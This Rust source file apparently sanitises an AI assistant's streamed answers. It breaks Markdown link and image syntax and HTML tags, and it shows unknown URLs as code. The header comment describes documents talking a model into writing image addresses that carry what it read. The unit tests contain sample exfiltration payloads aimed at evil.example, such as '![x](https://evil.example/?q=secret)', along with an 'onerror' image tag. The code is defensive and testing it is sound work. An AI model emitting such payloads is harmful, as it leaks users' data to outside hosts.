//! An answer's text without anything that acts by itself. A document may talk a model into writing an image whose
//! address carries what was read, a link, or HTML; whoever shows the answer as Markdown would load or offer it. So a
//! link or image loses its syntax, an HTML tag its bracket, and an address that stands in no source is shown as code.
//! What is said stays readable, and code stays as it is.

/// Passes an answer through as it streams; what cannot be decided yet is held back.
pub(super) struct Inert {
    /// What the answer was made from: an address that stands in it is the documents' own.
    sources: String,
    /// A word or a code span that is not decided yet.
    held: String,
    /// The last character that was shown.
    last: Option<char>,
    line: Line,
    /// The run that opened the present block of code.
    fence: Option<Fence>,
    /// Whether a link's definition may have begun in this paragraph.
    definition: bool,
}

/// The present line, as far as blocks of code depend on it (see `CommonMark`, 4.5).
#[derive(Default)]
struct Line {
    /// The spaces that it begins with, and the backticks or tildes after them, while there is nothing else.
    indent: String,
    run: String,
    begun: bool,
    /// The run that may open or close a block.
    fence: Option<Fence>,
    /// Whether anything but spaces follows the run, and whether that holds a backtick.
    more: bool,
    ticks: bool,
    /// Whether a letter or number stands in it.
    said: bool,
}

#[derive(Clone, Copy, PartialEq)]
struct Fence {
    char: char,
    length: usize,
}

/// The longest code span or address that is waited for.
const MAX_HELD_CHARS: usize = 2_000;

const ADDRESSES: [&str; 4] = ["http://", "https://", "ftp://", "www."];

impl Inert {
    /// For an answer made from these texts.
    pub(super) fn new(sources: impl IntoIterator<Item = String>) -> Self {
        let sources = sources.into_iter().collect::<Vec<_>>().join("\n");
        Self { sources, held: String::new(), last: None, line: Line::default(), fence: None, definition: false }
    }

    /// A whole text at once.
    pub(super) fn whole(text: &str, sources: impl IntoIterator<Item = String>) -> String {
        let mut inert = Self::new(sources);
        let shown = inert.push(text);
        shown + &inert.finish()
    }

    /// Takes a further stretch of the answer, and returns what can be shown of it.
    pub(super) fn push(&mut self, text: &str) -> String {
        let mut shown = String::with_capacity(text.len() + 8);
        for char in text.chars() {
            self.step(char, &mut shown);
        }
        shown
    }

    /// Ends the answer: what is left to show.
    pub(super) fn finish(mut self) -> String {
        let mut shown = String::new();
        self.begin_line(&mut shown);
        let held = std::mem::take(&mut self.held);
        self.release(&held, &mut shown);
        shown
    }

    fn step(&mut self, char: char, shown: &mut String) {
        if !self.line.begun {
            let run = &self.line.run;
            if run.is_empty() && matches!(char, ' ' | '\t') {
                return self.line.indent.push(char);
            }
            if (run.is_empty() && matches!(char, '`' | '~')) || run.starts_with(char) {
                return self.line.run.push(char);
            }
            self.begin_line(shown);
        }
        self.line.more |= !char.is_whitespace();
        self.line.ticks |= char == '`';
        if self.fence.is_some() {
            shown.push(char);
            self.last = Some(char);
        } else if self.held.starts_with('`') {
            self.in_span(char, shown);
        } else if char == '`' && self.held.chars().rev().take_while(|char| *char == '\\').count() % 2 == 0 {
            self.flush(shown);
            self.held.push(char);
        } else {
            self.step_text(char, shown);
        }
        if char == '\n' {
            self.end_line();
        }
    }

    /// Shows what a line begins with. The run of a block loses its indent: an indented block might end with a list
    /// around it, one that begins its line ends where it says so.
    fn begin_line(&mut self, shown: &mut String) {
        let (indent, run) = (std::mem::take(&mut self.line.indent), std::mem::take(&mut self.line.run));
        self.line.begun = true;
        if let Some(char) = run.chars().next().filter(|_| run.len() >= 3) {
            self.line.fence = Some(Fence { char, length: run.len() });
            shown.push_str(&run);
            self.last = Some(char);
        } else {
            shown.push_str(&indent);
            if self.fence.is_none() && run.starts_with('`') {
                self.held = run;
            } else {
                shown.push_str(&run);
            }
        }
    }

    fn end_line(&mut self) {
        let line = std::mem::take(&mut self.line);
        self.definition &= line.more;
        self.fence = match (self.fence, line.fence) {
            (None, Some(run)) if run.char == '~' || !line.ticks => Some(run),
            (Some(open), Some(run)) if run.char == open.char && run.length >= open.length && !line.more => None,
            (fence, _) => fence,
        };
    }

    /// Within a possible code span: shown as it stands once it is closed in the same line, else as text.
    fn in_span(&mut self, char: char, shown: &mut String) {
        let open = self.held.chars().take_while(|char| *char == '`').count();
        let closed = self.held.chars().rev().take_while(|char| *char == '`').count();
        let inside = self.held.chars().count() > open;
        if char != '`' && inside && closed == open {
            shown.push_str(&std::mem::take(&mut self.held));
            self.last = Some('`');
            self.step_text(char, shown);
        } else if matches!(char, '\n' | '|') || self.held.len() > MAX_HELD_CHARS {
            let held = std::mem::take(&mut self.held);
            self.release(&held, shown);
            self.step_text(char, shown);
        } else {
            self.held.push(char);
        }
    }

    fn step_text(&mut self, char: char, shown: &mut String) {
        if in_word(char) && self.held.len() < MAX_HELD_CHARS {
            self.held.push(char);
        } else {
            self.flush(shown);
            self.show(char, shown);
        }
    }

    /// Shows what is held: a closed code span as it stands, anything else as text.
    fn release(&mut self, held: &str, shown: &mut String) {
        let open = held.chars().take_while(|char| *char == '`').count();
        let closed = held.chars().rev().take_while(|char| *char == '`').count();
        if open > 0 && open == closed && held.chars().count() > open * 2 {
            shown.push_str(held);
            self.last = Some('`');
            return;
        }
        let mut word = String::new();
        for char in held.chars() {
            if in_word(char) {
                word.push(char);
            } else {
                self.word(&std::mem::take(&mut word), shown);
                self.show(char, shown);
            }
        }
        self.word(&word, shown);
    }

    fn flush(&mut self, shown: &mut String) {
        let held = std::mem::take(&mut self.held);
        self.word(&held, shown);
    }

    /// Shows a word; an address in it that stands in no source as code.
    fn word(&mut self, word: &str, shown: &mut String) {
        let lower = word.to_ascii_lowercase();
        let address = ADDRESSES.iter().filter_map(|start| lower.find(start)).min();
        let (before, address) = word.split_at(address.unwrap_or(word.len()));
        before.chars().for_each(|char| self.show(char, shown));
        let end = address.trim_end_matches(['.', ',', ':', ';', '!', '?', '*', '_', '\'']).len();
        let (address, after) = address.split_at(end);
        if address.is_empty() || self.sources.contains(address) {
            address.chars().for_each(|char| self.show(char, shown));
        } else {
            shown.push('`');
            shown.push_str(address);
            shown.push('`');
            self.last = Some('`');
        }
        after.chars().for_each(|char| self.show(char, shown));
    }

    /// Shows a character of text; a space keeps it from becoming a link or a tag with the one before.
    fn show(&mut self, char: char, shown: &mut String) {
        let apart = match self.last {
            Some(']') => char == '(' || (char == ':' && self.definition),
            Some('<') => char.is_ascii_alphabetic() || matches!(char, '/' | '!' | '?'),
            Some(_) | None => false,
        };
        if apart {
            shown.push(' ');
        }
        self.definition |= char == '[' && !self.line.said;
        self.line.said |= char.is_alphanumeric();
        shown.push(char);
        self.last = Some(char);
    }
}

/// What an address may be made of.
fn in_word(char: char) -> bool {
    char.is_ascii_graphic() && !matches!(char, '<' | '>' | '"' | '`' | '(' | ')' | '[' | ']' | '{' | '}' | '|' | '^')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(answer: &str, expected: &str) {
        let sources = || ["Apply at https://city.example/apply soon.".to_owned()];
        assert_eq!(Inert::whole(answer, sources()), expected, "{answer:?}");
        // However the stream is cut, the answer is the same.
        let mut inert = Inert::new(sources());
        let mut shown = String::new();
        for char in answer.chars() {
            shown.push_str(&inert.push(&char.to_string()));
        }
        assert_eq!(shown + &inert.finish(), expected, "{answer:?} by characters");
    }

    #[test]
    fn what_would_act_by_itself_is_made_inert() {
        let cases = [
            ("plain [1]. **bold** (x)", "plain [1]. **bold** (x)"),
            ("![x](https://evil.example/?q=secret)", "![x] (`https://evil.example/?q=secret`)"),
            ("see [here](https://city.example/apply).", "see [here] (https://city.example/apply)."),
            ("at https://city.example/apply.", "at https://city.example/apply."),
            ("at https://city.example/apply?q=1 now", "at `https://city.example/apply?q=1` now"),
            ("WWW.evil.example, ok", "`WWW.evil.example`, ok"),
            ("<img src=x onerror=y>", "< img src=x onerror=y>"),
            ("</div><!-- x --><script>", "< /div>< !-- x -->< script>"),
            ("a < b <3", "a < b <3"),
            ("[x][r]\n[r]: https://evil.example", "[x][r]\n[r] : `https://evil.example`"),
            ("![x]", "![x]"),
            ("[a](", "[a] ("),
            ("水道](（あ）", "水道] (（あ）"),
        ];
        for (answer, expected) in cases {
            check(answer, expected);
        }
    }

    #[test]
    fn code_stays_as_it_is_and_only_code() {
        let cases = [
            ("the `<img>` tag and `a[0](b)`", "the `<img>` tag and `a[0](b)`"),
            ("`` `<b>` `` x", "`` `<b>` `` x"),
            ("```html\n<img src=\"x\">\n[a](b)\n```\n<b>", "```html\n<img src=\"x\">\n[a](b)\n```\n< b>"),
            ("~~~\n<b>\n~~~ x\n<b>\n~~~\n<i>", "~~~\n<b>\n~~~ x\n<b>\n~~~\n< i>"),
            // What only looks like code to a careless reader is text.
            ("a ` ![x](u)", "a ` ![x] (u)"),
            ("a ` ![x](u)\n`", "a ` ![x] (u)\n`"),
            ("\\`![x](u)`", "\\`![x] (u)`"),
            ("| `a | ![x](u) | b` |", "| `a | ![x] (u) | b` |"),
            ("a ``` ![x](u)\n![y](u)", "a ``` ![x] (u)\n![y] (u)"),
            ("``` `x`\n![y](u)", "``` `x`\n![y] (u)"),
            ("  ```\n[a](b)\n  ```\n![y](u)", "```\n[a](b)\n```\n![y] (u)"),
            ("\\\\`a`![x](u)`", "\\\\`a`![x] (u)`"),
            ("> [r]: x", "> [r] : x"),
        ];
        for (answer, expected) in cases {
            check(answer, expected);
        }
    }
}
